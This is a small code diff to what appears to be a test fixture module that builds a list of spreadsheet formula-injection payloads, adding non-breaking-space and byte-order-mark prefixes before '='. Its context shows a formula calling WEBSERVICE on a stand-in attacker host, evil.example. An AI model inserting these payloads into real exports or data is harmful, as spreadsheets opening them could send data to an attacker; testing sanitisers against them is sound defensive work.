@@ -14,6 +14,8 @@ const STARTS = [
   "'=",
   "''=",
   ' =',
+  '\u00a0=',
+  '\ufeff=',
   '"=',
   ';=',
   'a;=',
@@ -28,5 +30,5 @@ const FORMULAS = [
   'SUM(1,2)\r\n=WEBSERVICE("https://evil.example/")',
 ];
 
-/** A hundred cells that a spreadsheet would run. */
+/** Some hundred cells that a spreadsheet would run. */
 export const FORMULA_PAYLOADS: string[] = STARTS.flatMap((start) => FORMULAS.map((formula) => `${start}${formula}`));
